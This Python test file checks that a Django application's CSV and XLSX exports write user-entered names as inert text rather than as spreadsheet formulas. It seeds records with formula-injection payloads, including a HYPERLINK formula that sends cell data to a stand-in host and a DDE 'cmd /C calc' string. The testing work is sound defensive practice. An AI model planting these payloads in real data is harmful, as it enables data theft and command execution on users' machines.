"""No export carries a live formula (CSV or formula injection): names that a spreadsheet would run as formulas,
entered in every record an export shows, come out of every CSV and XLSX download as text.

Names are set on the records directly: forms and imports accept them (a surname may begin with a hyphen, a
group's name with "="), and the exports must be safe whatever the data holds. Every dashboard table is found
from the download links its page shows, so a new table is covered without a line here.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from supervisione.census.models import Census, Person, ReferentDesignation, ReferentRequest
from supervisione.lib.exports import is_formula_like
from supervisione.planning.models import PlanGroup
from supervisione.procurement.models import Contract
from supervisione.supervisors.models import Supervisor
from supervisione.territory.models import Ambito, Organisation

from .conftest import Year

HYPERLINK = '=HYPERLINK("http://esempio.invalid/?d="&C2,"Apri")'
HOSTILE = [HYPERLINK, "@SUM(1+1)", "+1+1", "-2+3", "=1+1\u0007", "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0"]
EXPORT_LINK = re.compile(r'href="([^"]*formato=(?:csv|xlsx)[^"]*)"')


def _hostile() -> Iterator[str]:
    while True:
        yield from HOSTILE


def _poison(year: Year) -> None:
    """Every name an export prints, set to a formula."""
    values = _hostile()
    for person in Person.objects.all():
        Person.objects.filter(pk=person.pk).update(surname=next(values), name=next(values))
    for group in PlanGroup.objects.all():
        PlanGroup.objects.filter(pk=group.pk).update(name=next(values))
    # A line break too: the timesheet's file name carries the surname.
    Supervisor.objects.update(surname="\r=1+1", name=HYPERLINK)
    Contract.objects.update(title=HYPERLINK)
    Organisation.objects.update(name="@SUM(1+1)")
    Ambito.objects.filter(pk=year.cal.world.casarano.pk).update(name=HYPERLINK)
    request = ReferentRequest.objects.create(partnership=year.plan.partnership, deadline=datetime.date(2026, 9, 30))
    ReferentDesignation.objects.create(
        request=request,
        ambito=year.cal.world.casarano,
        full_name=HYPERLINK,
        role="+1+1",
        email="referente@example.it",
        phone="-2+3",
        act_number="@SUM(1+1)",
        act_date=datetime.date(2026, 9, 1),
        answered_on=datetime.date(2026, 9, 2),
    )


def _observatory_downloads(client: Client) -> list[str]:
    """The observatory's tables (ATS names, for observers)."""
    response = client.get(reverse("monitoring:observatory"), {"anno": "2026"})
    assert response.status_code == 200
    links = [link.replace("&amp;", "&") for link in EXPORT_LINK.findall(response.content.decode())]
    assert links, "the observatory shows no table to download"
    return links


def _downloads(year: Year, client: Client) -> list[str]:
    world = year.cal.world
    census = Census.objects.get(ambito=world.casarano, campaign__partnership=year.plan.partnership)
    urls = []
    for fmt in ("xlsx", "csv"):
        urls.append(reverse("census:campaign_export", kwargs={"pk": census.campaign_id, "fmt": fmt}))
        urls.append(
            reverse("census:census_export", kwargs={"pk": census.campaign_id, "code": world.casarano.code, "fmt": fmt})
        )
    request = ReferentRequest.objects.get()
    urls.append(reverse("census:referent_export", kwargs={"pk": request.pk, "fmt": "xlsx"}))
    urls.append(reverse("planning:plan_export", kwargs={"pk": year.plan.pk, "fmt": "xlsx"}))
    urls.append(reverse("monitoring:poa_monitoring", kwargs={"pk": year.plan.pk}))
    urls.append(reverse("sessions:timesheet", kwargs={"pk": year.cal.supervisor.pk}) + "?mese=2026-03&formato=xlsx")
    # The evidence pack is built by a task (run at once in tests): its page, then its download.
    asked = client.post(
        reverse("monitoring:evidence_pack", kwargs={"code": year.plan.partnership.code}),
        {"cup": "J81H22000130006", "start": "01/01/2026", "end": "31/12/2026"},
    )
    assert asked.status_code == 302
    urls.append(f"{asked['Location']}scarica/")
    dashboards = [
        reverse("monitoring:partnership", kwargs={"code": year.plan.partnership.code}),
        reverse("monitoring:ambito", kwargs={"code": world.casarano.code}),
        reverse("monitoring:group", kwargs={"pk": year.cal.group.pk}),
        reverse("monitoring:group", kwargs={"pk": year.cal.equipe_group.pk}),
        reverse("monitoring:supervisor", kwargs={"pk": year.cal.supervisor.pk}),
        reverse("monitoring:person", kwargs={"pk": year.cal.marco.pk}),
    ]
    for page in dashboards:
        response = client.get(page, {"anno": "2026"})
        assert response.status_code == 200, page
        links = EXPORT_LINK.findall(response.content.decode())
        assert links, f"{page} shows no table to download"
        urls += [link.replace("&amp;", "&") for link in links]
    return urls


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=";") for cell in row]


def _csv_problems(name: str, content: bytes) -> tuple[list[str], list[str]]:
    """(problems, the hostile texts found, restored)."""
    problems, found = [], []
    for cell in _csv_cells(content):
        if is_formula_like(cell):
            problems.append(f"{name}: CSV cell {cell!r} would run as a formula")
        elif cell.startswith("'") and is_formula_like(cell[1:]):
            found.append(cell[1:])
    return problems, found


def _xlsx_problems(name: str, content: bytes) -> tuple[list[str], list[str]]:
    problems, found = [], []
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell, Cell) or cell.value is None:
                    continue
                where = f"{name} {sheet.title}!{cell.coordinate}"
                if cell.data_type == "f":
                    problems.append(f"{where}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and is_formula_like(cell.value):
                    if not cell.quotePrefix:
                        problems.append(f"{where}: text {cell.value!r} without the quote prefix")
                    found.append(cell.value)
    return problems, found


def _check(name: str, content: bytes) -> tuple[list[str], list[str]]:
    if name.endswith(".csv"):
        return _csv_problems(name, content)
    return _xlsx_problems(name, content)


def test_every_csv_and_xlsx_export_writes_names_as_text(year: Year, on_today: datetime.date, client_for: Any) -> None:
    _poison(year)
    client = client_for("coordinator")
    observer = client_for("national_observer")
    problems: list[str] = []
    found: dict[str, list[str]] = {}
    downloads = [(client, url) for url in _downloads(year, client)]
    downloads += [(observer, url) for url in _observatory_downloads(observer)]
    for who, url in downloads:
        response = who.get(url)
        assert response.status_code == 200, url
        disposition = response["Content-Disposition"]
        name = disposition.split('filename="', 1)[1].rstrip('"')
        if name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
                for member in archive.namelist():
                    if member.endswith(".csv"):
                        member_problems, member_found = _check(f"{name}/{member}", archive.read(member))
                        problems += member_problems
                        found[f"{name}/{member}"] = member_found
            continue
        assert name.endswith((".csv", ".xlsx")), url
        file_problems, file_found = _check(name, response.getvalue())
        problems += file_problems
        found[name] = file_found
    assert not problems, "\n".join(problems)
    # The texts are kept, not dropped: what the exports print begins with the hostile names, and each of them
    # comes out somewhere exactly as entered (less the characters a spreadsheet file cannot hold).
    printed = {value.replace("\u0007", "") for value in HOSTILE}
    texts = {text for name in found for text in found[name]}
    assert all(text.startswith(tuple(printed)) for text in texts), texts
    assert printed <= texts, printed - texts
    census_csv = next(name for name in found if name.endswith(".csv") and "censimento" in name)
    assert HYPERLINK in found[census_csv]
